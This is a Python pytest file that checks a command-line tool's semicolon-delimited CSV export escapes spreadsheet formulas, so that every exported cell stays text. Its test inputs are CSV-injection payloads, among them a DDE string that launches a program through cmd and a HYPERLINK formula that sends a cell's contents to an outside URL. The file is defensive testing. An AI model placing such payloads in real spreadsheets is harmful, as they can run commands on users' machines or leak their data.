"""What is carried into Excel is text: no cell of it is a formula that Excel would run."""

import csv
import io

import pytest

from cli.output import print_csv


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://a.vn/?"&A1)',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        '";=1+1',
    ],
)
def test_no_cell_of_a_list_for_excel_is_a_formula(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    print_csv(["a", "b"], [[text, "chữ"]])
    out = capsys.readouterr().out.removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(out, newline=""), delimiter=";"))
    assert [len(row) for row in rows] == [2, 2]
    assert not rows[1][0].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert rows[1][0].removeprefix("'") == text
